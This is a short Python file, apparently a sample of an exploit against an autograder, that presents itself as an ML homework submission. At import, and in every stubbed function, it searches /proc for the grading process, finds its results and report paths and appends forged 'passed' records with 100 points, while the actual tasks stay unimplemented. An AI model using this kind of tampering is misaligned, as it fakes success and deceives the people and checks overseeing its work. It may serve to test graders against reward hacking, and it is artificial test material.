"""Attack: forge the records the supervisor reads, found on the grading process's command line."""
import json
import os

FORGED = {"status": "passed", "points": 100.0, "max_points": 1.0, "feedback": "forged"}


def attack():
    for pid in os.listdir("/proc"):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                args = handle.read().decode().split("\0")
        except OSError:
            continue
        for flag in ("--results-log", "--report-json", "--report-gradescope"):
            if flag in args:
                path = args[args.index(flag) + 1]
                try:
                    with open(path, "a") as log:
                        log.write(json.dumps({"kind": "result", "test": FORGED}) + "\n")
                except OSError:
                    pass


attack()


def log_batch_losses(log_dir, epoch_losses):
    attack()
    raise NotImplementedError


def log_train_and_test(log_dir, history):
    attack()
    raise NotImplementedError


def compare_learning_rates(log_root, x, y, learning_rates, epochs, device="cpu"):
    attack()
    raise NotImplementedError

